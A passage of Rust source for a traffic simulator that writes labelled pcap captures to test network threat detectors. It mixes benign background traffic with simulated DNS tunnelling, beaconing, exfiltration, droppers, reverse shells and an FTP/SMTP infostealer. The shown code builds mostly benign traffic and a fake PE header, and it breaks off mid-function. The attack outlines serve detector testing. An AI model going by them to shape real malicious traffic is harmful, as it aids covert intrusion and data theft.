//! `wirehunt simulate`: deterministic, labelled scenario captures.
//!
//! A scenario is a list of timed tasks (one DNS lookup, one web visit, one beacon check-in, ...), run
//! in start order; each task writes its packets into a time-ordered heap that is flushed up to the
//! next task's start, so the pcap is in timestamp order and memory holds only overlapping sessions.
//! Everything derives from the seed: the same seed gives a byte-identical capture and truth file.
//!
//! Background: internal hosts (IPv4, some dual-stack IPv6) browse in sessions with log-normal think
//! times; DNS with CNAME chains to CDNs; TLS 1.2/1.3 with SNI and ALPN and distinct client profiles;
//! HTTP/1.1 with keep-alive and chunked bodies. Benign look-alikes: CDN names with random labels,
//! antivirus reputation lookups, DNSBL and reverse lookups, mDNS, NTP and a monitoring agent on fixed
//! periods, and large uploads to a cloud storage service used by several hosts; software downloads
//! from vendors (Windows Update, a browser fetching an installer).
//! Attacks (randomised per seed): DNS tunnel, beaconing, HTTP exfiltration, TLS exfiltration, and a
//! dropper (a PE, a PE served as an image, an encrypted payload, or a PowerShell stage over HTTP), and
//! an interactive reverse shell (one raw TCP session to an address on an odd port, most of the capture).

pub mod flood;
pub mod net;
pub mod proto;

use net::{Ep, GATEWAY_MAC, PcapOut, Rng, Tcp, mac_for, udp_frame};
use proto::*;
use serde::Serialize;
use serde_json::json;
use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::path::{Path, PathBuf};

pub const ATTACKS: &[&str] = &[
    "dns_tunnel",
    "beaconing",
    "http_exfil",
    "tls_exfil",
    "dropper",
    "reverse_shell",
    "stealer",
];

#[derive(Debug, Clone)]
pub struct SimConfig {
    pub seed: u64,
    pub hours: f64,
    pub hosts: usize,
    pub attacks: Vec<String>,
    /// Keep adding background until the capture has this many bytes.
    pub size: Option<u64>,
    /// Multiplier for background download sizes (small demo captures use < 1).
    pub background_scale: f64,
    /// Fill TLS application data with compressible filler instead of random bytes (demo captures).
    pub compressible: bool,
}

#[derive(Debug, Clone, Serialize)]
pub struct AttackTruth {
    pub category: String,
    pub kind: String,
    pub src_ip: String,
    pub dst_ip: Option<String>,
    pub dst_port: Option<u16>,
    pub domain: Option<String>,
    pub parameters: serde_json::Value,
}

#[derive(Debug, Clone, Serialize)]
pub struct LookalikeTruth {
    pub kind: String,
    /// The detector category this benign traffic resembles.
    pub resembles: String,
    pub src_ips: Vec<String>,
    pub dst_ip: Option<String>,
    pub domain: Option<String>,
    pub parameters: serde_json::Value,
}

#[derive(Debug, Clone, Serialize)]
pub struct Truth {
    pub seed: u64,
    pub generator: String,
    pub start: String,
    pub end: String,
    pub packets: u64,
    pub bytes: u64,
    pub hosts: Vec<String>,
    pub resolver: String,
    pub attacks: Vec<AttackTruth>,
    pub lookalikes: Vec<LookalikeTruth>,
}

/// What can go wrong writing a scenario.
#[derive(Debug, thiserror::Error)]
pub enum SimError {
    /// A name that is not an attack or a flood (the message lists the valid ones).
    #[error("{0}")]
    Unknown(String),
    #[error("{0}")]
    Io(#[from] std::io::Error),
    #[error("truth file: {0}")]
    Json(#[from] serde_json::Error),
}

/// An RFC 3339 UTC time with microseconds (the truth file's times).
fn rfc3339(us: i64) -> String {
    chrono::DateTime::from_timestamp_micros(us)
        .map(|d| d.to_rfc3339_opts(chrono::SecondsFormat::Micros, true))
        .unwrap_or_else(|| us.to_string())
}

pub fn parse_attacks(s: &str) -> Result<Vec<String>, SimError> {
    match s.trim() {
        "all" => Ok(ATTACKS.iter().map(|s| s.to_string()).collect()),
        "none" | "" => Ok(Vec::new()),
        list => {
            let v: Vec<String> = list
                .split(',')
                .map(|x| x.trim().to_string())
                .filter(|x| !x.is_empty())
                .collect();
            for a in &v {
                if !ATTACKS.contains(&a.as_str()) {
                    return Err(SimError::Unknown(format!(
                        "unknown attack {a:?} (dns_tunnel, beaconing, http_exfil, tls_exfil, dropper, reverse_shell, stealer, all, none)"
                    )));
                }
            }
            Ok(v)
        }
    }
}

pub fn truth_path(p: &Path) -> PathBuf {
    let name = p
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let stem = name.strip_suffix(".pcap").unwrap_or(&name);
    p.with_file_name(format!("{stem}.truth.json"))
}

#[derive(Clone, Copy)]
struct Host {
    v4: Ipv4Addr,
    v6: Option<Ipv6Addr>,
}

enum Task {
    Visit {
        host: usize,
    },
    AvLookup {
        host: usize,
    },
    Dnsbl {
        host: usize,
    },
    Reverse {
        host: usize,
    },
    Mdns {
        host: usize,
    },
    Ntp {
        host: usize,
    },
    Monitor {
        host: usize,
    },
    /// A long-lived TLS session with tiny constant heartbeats (push, websocket, cast): SESSIONS[kind].
    Session {
        host: usize,
        kind: usize,
        until: i64,
    },
    /// An hourly software update check (new TLS connection, constant sizes).
    UpdateCheck {
        host: usize,
    },
    /// An OS connectivity check (plain HTTP, constant answer).
    ConnCheck {
        host: usize,
    },
    CloudUpload {
        host: usize,
        bytes: usize,
    },
    TunnelQuery {
        idx: usize,
    },
    Beacon {
        idx: usize,
        tasking: bool,
    },
    HttpExfil {
        idx: usize,
        bytes: usize,
    },
    TlsExfil {
        idx: usize,
        bytes: usize,
    },
    Dropper {
        idx: usize,
    },
    /// An operator typing into a reverse shell: one TCP session, irregular small commands and
    /// larger answers, until `until`.
    Shell {
        host: usize,
        dst: IpAddr,
        port: u16,
        until: i64,
    },
    /// An infostealer shipping its loot (AgentTesla, Snake, Formbook): it asks an IP-echo service
    /// for the host's public address, then logs in with credentials in the clear and uploads by FTP
    /// (a scripted client: no listing, no cwd) or submits a mail with AUTH LOGIN on 587.
    Stealer {
        host: usize,
        server: IpAddr,
        server_name: String,
        ftp: bool,
        echo: &'static str,
        bytes: usize,
    },
    /// A dynamic-DNS client checking the site's public address (ddclient): plain HTTP to an IP-echo
    /// service, hourly.
    DdnsCheck {
        host: usize,
    },
    /// A mail client sending through its provider: SMTP on 587, STARTTLS, the rest encrypted.
    MailSubmit {
        host: usize,
    },
    /// A benign download from a vendor: 0 = Windows Update fetching a signed PE, 1 = a browser
    /// fetching an installer from the vendor's download host after visiting its page.
    VendorDownload {
        host: usize,
        kind: usize,
    },
}

/// A dropper's stage: how the executable content reaches the victim.
struct Dropper {
    host: usize,
    dst: IpAddr,
    /// Host header: a name (resolved first) or the address itself.
    host_hdr: String,
    by_name: bool,
    variant: &'static str,
}

/// A plausible PE head (DOS stub, PE signature, i386 COFF header) followed by `n` bytes of `fill`.
fn pe_image(rng: &mut Rng, n: usize) -> Vec<u8> {
    let mut v = vec![0u8; 0x80];
    v[0] = b'M';
    v[1] = b'Z';
    v[0x3c] = 0x80;
    let stub = b"This program cannot be run in DOS mode.\r\r\n$";
    v[0x4e..0x4e + stub.len()].copy_from_slice(stub);
    v.extend_from_slice(b"PE\0\0\x4c\x01\x05\x00");
    let body = rng.bytes(n);
    v.extend_from_slice(&body);
    v
}

struct Tunnel {
    host: usize,
    domain: String,
    encoding: &'static str,
    qtype: u16,
    chunk: usize,
    seq: u32,
}

struct Beacon {
    host: usize,
    transport: &'static str,
    dst: IpAddr,
    port: u16,
    domain: String,
    beats: u32,
}

struct Exfil {
    host: usize,
    dst: IpAddr,
    port: u16,
    domain: String,
    method: &'static str,
    chunked: bool,
    compressible: bool,
}

struct World {
    rng: Rng,
    scale: f64,
    compressible: bool,
    hosts: Vec<Host>,
    resolver: Ep,
    pool: Vec<u8>,
    text: Vec<u8>,
    tunnels: Vec<Tunnel>,
    beacons: Vec<Beacon>,
    http_exfil: Vec<Exfil>,
    tls_exfil: Vec<Exfil>,
    droppers: Vec<Dropper>,
    dns_id: u16,
    port: u16,
}

const SITES: &[(&str, &[&str])] = &[
    ("www.wikipedia.org", &["dyna.wikimedia.org"]),
    ("github.com", &[]),
    ("api.github.com", &[]),
    ("news.ycombinator.com", &[]),
    (
        "www.bbc.co.uk",
        &["www.bbc.co.uk.pri.bbc.co.uk", "bbc.map.fastly.net"],
    ),
    ("docs.rust-lang.org", &["d3fz7ebb7jdxyq.cloudfront.net"]),
    ("www.nytimes.com", &["nytimes.map.fastly.net"]),
    (
        "outlook.office365.com",
        &["outlook.ha.office365.com", "outlook.ms-acdc.office.com"],
    ),
    ("slack.com", &[]),
    ("zoom.us", &[]),
    (
        "www.amazon.com",
        &[
            "tp.47cf2c8c9-frontier.amazon.com",
            "d3ag4hukkh62yn.cloudfront.net",
        ],
    ),
    ("stackoverflow.com", &[]),
    (
        "login.microsoftonline.com",
        &["login.mso.msidentity.com", "ak.privatelink.msidentity.com"],
    ),
    ("www.reddit.com", &["reddit.map.fastly.net"]),
    ("fonts.googleapis.com", &["googleapis.l.google.com"]),
    ("www.youtube.com", &["youtube-ui.l.google.com"]),
    ("www.theguardian.com", &["guardian.map.fastly.net"]),
    ("www.debian.org", &[]),
];

/// Benign long sessions with heartbeats: (SNI, port, heartbeat period range in seconds, bytes per
/// heartbeat each way, server address: None = public (resolved by DNS), Some = a LAN device, self-signed).
/// Periods from the services' documented behaviour: FCM heartbeats 1-28 min (here capped under the
/// 300 s TCP timeout so the session stays one flow), Teams/Slack websocket pings every 30-60 s,
/// Google Cast PING/PONG every 5 s on the LAN.
type SessionKind = (
    &'static str,
    u16,
    (f64, f64),
    (usize, usize),
    Option<[u8; 4]>,
    bool,
);
const SESSIONS: &[SessionKind] = &[
    (
        "mtalk.google.com",
        5228,
        (60.0, 280.0),
        (36, 36),
        None,
        false,
    ),
    (
        "teams.microsoft.com",
        443,
        (30.0, 60.0),
        (70, 60),
        None,
        false,
    ),
    (
        "wss-primary.slack.com",
        443,
        (30.0, 30.0),
        (50, 50),
        None,
        false,
    ),
    (
        "cast-receiver",
        8009,
        (5.0, 5.0),
        (110, 110),
        Some([10, 10, 0, 40]),
        true,
    ),
];

const WORDS: &[&str] = &[
    "cloud",
    "sync",
    "data",
    "update",
    "static",
    "node",
    "edge",
    "relay",
    "stats",
    "metric",
    "telemetry",
    "cdn",
    "svc",
    "api",
    "secure",
    "portal",
    "mail",
    "img",
    "assets",
    "link",
];
const TLDS: &[&str] = &["com", "net", "org", "info", "xyz", "io", "top"];
const UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
];

fn hash_str(s: &str) -> u64 {
    let mut h = 0xcbf29ce484222325u64;
    for b in s.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100000001b3);
    }
    h
}

/// A stable public-looking IPv4 address for a name (never private, loopback or multicast).
fn public_v4(name: &str) -> Ipv4Addr {
    let h = hash_str(name);
    let first = [
        13u8, 20, 23, 34, 35, 44, 52, 54, 64, 76, 91, 104, 128, 140, 151, 185, 199, 205,
    ][(h % 18) as usize];
    Ipv4Addr::new(
        first,
        (h >> 8) as u8,
        (h >> 16) as u8,
        ((h >> 24) as u8).clamp(1, 254),
    )
}

fn public_v6(name: &str) -> Ipv6Addr {
    let h = hash_str(name);
    Ipv6Addr::new(
        0x2001,
        0xdb8,
        (h >> 48) as u16,
        (h >> 32) as u16,
        0,
        0,
        (h >> 16) as u16,
        h as u16 | 1,
    )
}

fn rand_domain(rng: &mut Rng) -> String {
    format!(
        "{}{}{}.{}",
        rng.pick(WORDS),
        rng.pick(WORDS),
        rng.range(1, 99),
        rng.pick(TLDS)
    )
}

fn alnum(rng: &mut Rng, n: usize) -> String {
    const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    (0..n)
        .map(|_| A[rng.range(0, A.len() as u64) as usize] as char)
        .collect()
}

/// A browser's GET request for `path` on `host`.
fn browser_get(host: &str, path: &str, ua: &str) -> String {
    format!(
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nAccept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n"
    )
}

/// What a simulated TLS client says in its ClientHello, and what the server answers with.
#[derive(Clone, Copy)]
struct Hello<'a> {
    sni: Option<&'a str>,
    profile: ClientProfile,
    /// TLS 1.3 (else 1.2, whose server sends its certificate in the clear)
    tls13: bool,
    /// the server's certificate is self-signed
    self_signed: bool,
}

impl World {
    fn host_ep(&mut self, h: usize, v6: bool) -> Ep {
        self.port = if self.port >= 65000 || self.port < 32768 {
            32768 + (self.rng.range(0, 2000) as u16)
        } else {
            self.port + 1 + self.rng.range(0, 7) as u16
        };
        let hh = self.hosts[h];
        let ip = match (v6, hh.v6) {
            (true, Some(a)) => IpAddr::V6(a),
            _ => IpAddr::V4(hh.v4),
        };
        Ep {
            ip,
            port: self.port,
            mac: mac_for(&ip),
        }
    }

    fn server(&self, ip: IpAddr, port: u16) -> Ep {
        let internal = wirehunt_wire::flow::is_local(&ip);
        Ep {
            ip,
            port,
            mac: if internal { mac_for(&ip) } else { GATEWAY_MAC },
        }
    }

    /// A TCP connection from an internal host (IPv4) to a server, starting at `t`.
    fn connect(&mut self, host: usize, ip: IpAddr, port: u16, t: i64, rtt: i64, pace: i64) -> Tcp {
        let c = self.host_ep(host, false);
        let s = self.server(ip, port);
        Tcp::new(&mut self.rng, c, s, t, rtt, pace)
    }

    fn next_id(&mut self) -> u16 {
        self.dns_id = self.dns_id.wrapping_mul(25173).wrapping_add(13849);
        self.dns_id
    }

    /// One DNS transaction over UDP to the resolver. Returns the time after the answer.
    #[allow(clippy::too_many_arguments)]
    fn dns<W: Write>(
        &mut self,
        out: &mut PcapOut<W>,
        t: i64,
        host: usize,
        qname_wire: &[u8],
        qtype: u16,
        rcode: u8,
        answers: &[Rr],
    ) -> i64 {
        let c = self.host_ep(host, false);
        let id = self.next_id();
        let q = dns_query(id, qname_wire, qtype, self.rng.chance(0.5));
        out.push(t, udp_frame(&c, &self.resolver, &q));
        let rtt = self.rng.range(300, 40_000) as i64;
        let r = dns_response(id, qname_wire, qtype, rcode, answers);
        out.push(t + rtt, udp_frame(&self.resolver, &c, &r));
        t + rtt + 200
    }

    /// An A/AAAA lookup of `name` answered with `ip`; returns the time after the answer.
    fn dns_a<W: Write>(
        &mut self,
        out: &mut PcapOut<W>,
        t: i64,
        host: usize,
        name: &str,
        ip: IpAddr,
    ) -> i64 {
        let (rtype, rdata) = match ip {
            IpAddr::V4(a) => (1, a.octets().to_vec()),
            IpAddr::V6(a) => (28, a.octets().to_vec()),
        };
        self.dns(
            out,
            t,
            host,
            &encode_name(name),
            rtype,
            0,
            &[Rr {
                owner: None,
                rtype,
                ttl: 300,
                rdata,
            }],
        )
    }

    /// Resolve a name with an optional CNAME chain; returns the final address and the time after.
    fn resolve<W: Write>(
        &mut self,
        out: &mut PcapOut<W>,
        t: i64,
        host: usize,
        name: &str,
        chain: &[&str],
        v6: bool,
    ) -> (IpAddr, i64) {
        let last = chain.last().copied().unwrap_or(name);
        let addr = if v6 {
            IpAddr::V6(public_v6(last))
        } else {
            IpAddr::V4(public_v4(last))
        };
        let mut ans = Vec::new();
        let mut owner: Option<String> = None;
        for c in chain {
            ans.push(Rr {
                owner: owner.clone(),
                rtype: 5,
                ttl: 300,
                rdata: encode_name(c),
            });
            owner = Some(c.to_string());
        }
        let rdata = match addr {
            IpAddr::V4(a) => a.octets().to_vec(),
            IpAddr::V6(a) => a.octets().to_vec(),
        };
        ans.push(Rr {
            owner,
            rtype: if v6 { 28 } else { 1 },
            ttl: 60,
            rdata,
        });
        let t2 = self.dns(
            out,
            t,
            host,
            &encode_name(name),
            if v6 { 28 } else { 1 },
            0,
            &ans,
        );
        (addr, t2)
    }

    fn tls_session<W: Write>(
        &mut self,
        out: &mut PcapOut<W>,
        tcp: &mut Tcp,
        hello: Hello<'_>,
        up: usize,
        down: usize,
    ) {
        self.tls_open(out, tcp, hello);
        let pool = if self.compressible {
            &self.text
        } else {
            &self.pool
        };
        for (from_client, n) in [(true, up), (false, down)] {
            if n > 0 {
                let d = app_data(&mut self.rng, n, pool);
                tcp.send(out, from_client, &d);
            }
        }
        tcp.close(out);
    }

    /// TCP and TLS handshakes, no application data yet.
    fn tls_open<W: Write>(&mut self, out: &mut PcapOut<W>, tcp: &mut Tcp, hello: Hello<'_>) {
        tcp.open(out);
        self.tls_handshake(out, tcp, hello);
    }

    /// The TLS handshake on a connection already open (after STARTTLS).
    fn tls_handshake<W: Write>(&mut self, out: &mut PcapOut<W>, tcp: &mut Tcp, hello: Hello<'_>) {
        let Hello {
            sni,
            profile,
            tls13,
            self_signed,
        } = hello;
        let alpn: &[&str] = if profile == ClientProfile::Minimal {
            &[]
        } else {
            &["h2", "http/1.1"]
        };
        let ch = client_hello(&mut self.rng, profile, sni, alpn, tls13);
        tcp.send(out, true, &ch);
        let sf = server_flight(
            &mut self.rng,
            tls13,
            if alpn.is_empty() { None } else { Some("h2") },
            self_signed,
            sni,
        );
        tcp.send(out, false, &sf);
        let cf = client_finish(&mut self.rng, tls13);
        tcp.send(out, true, &cf);
        if !tls13 {
            let f = server_finish(&mut self.rng);
            tcp.send(out, false, &f);
        }
    }

    /// A browser's GET (`req`, from [`browser_get`]) and a page of `down` bytes in reply.
    fn http_exchange<W: Write>(
        &mut self,
        out: &mut PcapOut<W>,
        tcp: &mut Tcp,
        req: &str,
        down: usize,
        chunked: bool,
    ) {
        tcp.send(out, true, req.as_bytes());
        let body = &self.text[..down.min(self.text.len())];
        let mut resp = if chunked {
            "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\nTransfer-Encoding: chunked\r\n\r\n".to_string().into_bytes()
        } else {
            format!("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes()
        };
        if chunked {
            for c in body.chunks(4000) {
                resp.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
                resp.extend_from_slice(c);
                resp.extend_from_slice(b"\r\n");
            }
            resp.extend_from_slice(b"0\r\n\r\n");
        } else {
            resp.extend_from_slice(body);
        }
        tcp.idle(self.rng.range(2_000, 60_000) as i64);
        tcp.send(out, false, &resp);
    }

    fn run<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, task: &Task) {
        match *task {
            Task::Visit { host } => self.visit(out, t, host),
            Task::AvLookup { host } => self.av_lookup(out, t, host),
            Task::Dnsbl { host } => self.dnsbl(out, t, host),
            Task::Reverse { host } => self.reverse(out, t, host),
            Task::Mdns { host } => self.mdns(out, t, host),
            Task::Ntp { host } => self.ntp(out, t, host),
            Task::Monitor { host } => self.monitor(out, t, host),
            Task::Session { host, kind, until } => self.session(out, t, host, kind, until),
            Task::UpdateCheck { host } => self.update_check(out, t, host),
            Task::ConnCheck { host } => self.conn_check(out, t, host),
            Task::CloudUpload { host, bytes } => self.cloud_upload(out, t, host, bytes),
            Task::TunnelQuery { idx } => self.tunnel_query(out, t, idx),
            Task::Beacon { idx, tasking } => self.beacon(out, t, idx, tasking),
            Task::HttpExfil { idx, bytes } => self.http_exfil(out, t, idx, bytes),
            Task::Dropper { idx } => self.dropper(out, t, idx),
            Task::Shell {
                host,
                dst,
                port,
                until,
            } => self.shell(out, t, host, dst, port, until),
            Task::VendorDownload { host, kind } => self.vendor_download(out, t, host, kind),
            Task::DdnsCheck { host } => self.ddns_check(out, t, host),
            Task::MailSubmit { host } => self.mail_submit(out, t, host),
            Task::Stealer {
                host,
                server,
                ref server_name,
                ftp,
                echo,
                bytes,
            } => {
                let name = server_name.clone();
                self.stealer(out, t, host, server, &name, ftp, echo, bytes)
            }
            Task::TlsExfil { idx, bytes } => self.tls_exfil(out, t, idx, bytes),
        }
    }

    fn visit<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        let (site, chain) = *self.rng.pick(SITES);
        let v6 = self.hosts[host].v6.is_some() && self.rng.chance(0.4);
        let (ip, mut t2) = self.resolve(out, t, host, site, chain, v6);
        let c = self.host_ep(host, v6);
        let s = self.server(ip, 443);
        let rtt = self.rng.range(8_000, 90_000) as i64;
        let pace = self.rng.range(80, 1500) as i64;
        let ua = *self.rng.pick(UAS);
        if self.rng.chance(0.8) {
            let profile = *self.rng.pick(&[
                ClientProfile::Chrome,
                ClientProfile::Chrome,
                ClientProfile::Firefox,
                ClientProfile::Curl,
            ]);
            let mut tcp = Tcp::new(&mut self.rng, c, s, t2, rtt, pace);
            let down = (self.rng.lognormal(30_000.0, 1.2).min(3e6) * self.scale) as usize;
            let up = self.rng.range(300, 2500) as usize;
            let tls13 = self.rng.chance(0.7);
            self.tls_session(
                out,
                &mut tcp,
                Hello {
                    sni: Some(site),
                    profile,
                    tls13,
                    self_signed: false,
                },
                up,
                down,
            );
            t2 = tcp.t;
        } else {
            let s = self.server(ip, 80);
            let mut tcp = Tcp::new(&mut self.rng, c, s, t2, rtt, pace);
            tcp.open(out);
            for i in 0..self.rng.range(1, 5) {
                let down = (self.rng.lognormal(12_000.0, 1.0).min(400_000.0) * self.scale) as usize;
                let chunked = self.rng.chance(0.3);
                let path = format!("/{}/{}.html", alnum(&mut self.rng, 6), i);
                let req = browser_get(site, &path, ua);
                self.http_exchange(out, &mut tcp, &req, down, chunked);
                tcp.idle(self.rng.range(10_000, 900_000) as i64);
            }
            tcp.close(out);
            t2 = tcp.t;
        }
        // sub-resources from CDNs whose names carry random-looking labels
        for _ in 0..self.rng.range(0, 3) {
            let name = match self.rng.range(0, 3) {
                0 => format!("d{}.cloudfront.net", alnum(&mut self.rng, 13)),
                1 => format!(
                    "rr{}---sn-{}.googlevideo.com",
                    self.rng.range(1, 9),
                    alnum(&mut self.rng, 8)
                ),
                _ => format!("e{}.a.akamaiedge.net", self.rng.range(1000, 99999)),
            };
            let (ip, t3) = self.resolve(out, t2 + 1000, host, &name, &[], false);
            let mut tcp = self.connect(host, ip, 443, t3, rtt, pace);
            let down = (self.rng.lognormal(80_000.0, 1.0).min(2e6) * self.scale) as usize;
            self.tls_session(
                out,
                &mut tcp,
                Hello {
                    sni: Some(&name),
                    profile: ClientProfile::Chrome,
                    tls13: true,
                    self_signed: false,
                },
                600,
                down,
            );
        }
    }

    fn av_lookup<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        let mut h = [0u8; 16];
        self.rng.fill(&mut h);
        let name = format!(
            "{}.{}.sxl.sophosxl.net",
            wirehunt_wire::capture::hex(&h),
            self.rng.range(1, 4)
        );
        let ans = [Rr {
            owner: None,
            rtype: 1,
            ttl: 300,
            rdata: vec![127, 0, 0, 1],
        }];
        self.dns(out, t, host, &encode_name(&name), 1, 0, &ans);
    }

    fn dnsbl<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        let o: Vec<u8> = (0..4).map(|_| self.rng.range(1, 255) as u8).collect();
        let name = format!("{}.{}.{}.{}.zen.spamhaus.org", o[3], o[2], o[1], o[0]);
        if self.rng.chance(0.15) {
            self.dns(
                out,
                t,
                host,
                &encode_name(&name),
                1,
                0,
                &[Rr {
                    owner: None,
                    rtype: 1,
                    ttl: 60,
                    rdata: vec![127, 0, 0, 2],
                }],
            );
        } else {
            self.dns(out, t, host, &encode_name(&name), 1, 3, &[]);
        }
    }

    fn reverse<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        let name = if self.rng.chance(0.7) {
            let o: Vec<u8> = (0..4).map(|_| self.rng.range(1, 255) as u8).collect();
            format!("{}.{}.{}.{}.in-addr.arpa", o[3], o[2], o[1], o[0])
        } else {
            let nib: Vec<String> = (0..32)
                .map(|_| format!("{:x}", self.rng.range(0, 16)))
                .collect();
            format!("{}.ip6.arpa", nib.join("."))
        };
        let target = format!("host-{}.example.net", self.rng.range(1, 9999));
        self.dns(
            out,
            t,
            host,
            &encode_name(&name),
            12,
            0,
            &[Rr {
                owner: None,
                rtype: 12,
                ttl: 3600,
                rdata: encode_name(&target),
            }],
        );
    }

    fn mdns<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        let c = Ep {
            ip: IpAddr::V4(self.hosts[host].v4),
            port: 5353,
            mac: mac_for(&IpAddr::V4(self.hosts[host].v4)),
        };
        let dst = Ep {
            ip: IpAddr::V4(Ipv4Addr::new(224, 0, 0, 251)),
            port: 5353,
            mac: [0x01, 0x00, 0x5e, 0x00, 0x00, 0xfb],
        };
        let name = *self.rng.pick(&[
            "_services._dns-sd._udp.local",
            "_googlecast._tcp.local",
            "_airplay._tcp.local",
            "_ipp._tcp.local",
        ]);
        let mut q = dns_query(0, &encode_name(name), 12, false);
        q[2] = 0;
        q[3] = 0;
        out.push(t, udp_frame(&c, &dst, &q));
    }

    fn ntp<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        let c = Ep {
            ip: IpAddr::V4(self.hosts[host].v4),
            port: 123,
            mac: mac_for(&IpAddr::V4(self.hosts[host].v4)),
        };
        // half the hosts use the LAN's time server, half a public pool server (resolved at boot,
        // so no DNS answer in the capture names it)
        let server = if host.is_multiple_of(2) {
            IpAddr::V4(Ipv4Addr::new(10, 10, 0, 3))
        } else {
            IpAddr::V4(public_v4("2.pool.ntp.org"))
        };
        let s = self.server(server, 123);
        let mut req = vec![0u8; 48];
        req[0] = 0x23;
        self.rng.fill(&mut req[40..48]);
        let mut resp = vec![0u8; 48];
        resp[0] = 0x24;
        resp[1] = 2;
        self.rng.fill(&mut resp[16..48]);
        out.push(t, udp_frame(&c, &s, &req));
        out.push(
            t + self.rng.range(200, 2000) as i64,
            udp_frame(&s, &c, &resp),
        );
    }

    fn monitor<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        let mut tcp = self.connect(
            host,
            IpAddr::V4(Ipv4Addr::new(10, 10, 0, 5)),
            8086,
            t,
            400,
            20,
        );
        tcp.open(out);
        let body = format!(
            "cpu,host=h{host} usage_idle={:.2},usage_user={:.2}\nmem,host=h{host} used_percent={:.2}\n",
            self.rng.uniform(50.0, 99.0),
            self.rng.uniform(0.0, 30.0),
            self.rng.uniform(20.0, 80.0)
        );
        let req = format!(
            "POST /write?db=telegraf HTTP/1.1\r\nHost: 10.10.0.5:8086\r\nUser-Agent: Telegraf/1.30\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Length: {}\r\n\r\n{}",
            body.len(),
            body
        );
        tcp.send(out, true, req.as_bytes());
        tcp.idle(1500);
        tcp.send(
            out,
            false,
            b"HTTP/1.1 204 No Content\r\nX-Influxdb-Version: 1.8.10\r\n\r\n",
        );
        tcp.close(out);
    }

    fn session<W: Write>(
        &mut self,
        out: &mut PcapOut<W>,
        t: i64,
        host: usize,
        kind: usize,
        until: i64,
    ) {
        let (sni, port, (p0, p1), (up, down), lan, self_signed) = SESSIONS[kind];
        let (ip, t2) = match lan {
            Some(a) => (IpAddr::V4(Ipv4Addr::from(a)), t),
            None => self.resolve(out, t, host, sni, &[], false),
        };
        let mut tcp = self.connect(host, ip, port, t2, 30_000, 50);
        let profile = if lan.is_some() {
            ClientProfile::Curl
        } else {
            ClientProfile::Chrome
        };
        self.tls_open(
            out,
            &mut tcp,
            Hello {
                sni: (lan.is_none()).then_some(sni),
                profile,
                tls13: true,
                self_signed,
            },
        );
        let period = self.rng.uniform(p0, p1);
        while tcp.t < until {
            tcp.idle((period * 1e6 * self.rng.uniform(0.98, 1.02)) as i64);
            let d = app_data(&mut self.rng, up, &self.pool);
            tcp.send(out, true, &d);
            let d = app_data(&mut self.rng, down, &self.pool);
            tcp.send(out, false, &d);
        }
        tcp.close(out);
    }

    fn update_check<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        let (ip, t2) = self.resolve(
            out,
            t,
            host,
            "aus5.mozilla.org",
            &["balrog-aus5.r53-2.services.mozilla.com"],
            false,
        );
        let mut tcp = self.connect(host, ip, 443, t2, 40_000, 100);
        self.tls_session(
            out,
            &mut tcp,
            Hello {
                sni: Some("aus5.mozilla.org"),
                profile: ClientProfile::Firefox,
                tls13: true,
                self_signed: false,
            },
            900,
            1400,
        );
    }

    /// Resolve `name` (CNAME chain `chain`), then one plain-HTTP request and its answer on a new
    /// connection to port 80 (the checks services make: connectivity, public address).
    #[allow(clippy::too_many_arguments)]
    fn plain_http<W: Write>(
        &mut self,
        out: &mut PcapOut<W>,
        t: i64,
        host: usize,
        name: &str,
        chain: &[&str],
        rtt: i64,
        req: &[u8],
        resp: &[u8],
    ) {
        let (ip, t2) = self.resolve(out, t, host, name, chain, false);
        let mut tcp = self.connect(host, ip, 80, t2, rtt, 50);
        tcp.open(out);
        tcp.send(out, true, req);
        tcp.send(out, false, resp);
        tcp.close(out);
    }

    fn conn_check<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        self.plain_http(
            out,
            t,
            host,
            "www.msftconnecttest.com",
            &["www.msftconnecttest.com.edgesuite.net"],
            20_000,
            b"GET /connecttest.txt HTTP/1.1\r\nConnection: Close\r\nUser-Agent: Microsoft NCSI\r\nHost: www.msftconnecttest.com\r\n\r\n",
            b"HTTP/1.1 200 OK\r\nContent-Length: 22\r\nContent-Type: text/plain\r\nCache-Control: max-age=30, must-revalidate\r\n\r\nMicrosoft Connect Test",
        );
    }

    fn ddns_check<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        let body = "<html><head><title>Current IP Check</title></head><body>Current IP Address: 203.0.113.9</body></html>\r\n";
        let resp = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nServer: checkip\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        self.plain_http(
            out,
            t,
            host,
            "checkip.dyndns.org",
            &["checkip.dyndns.com"],
            40_000,
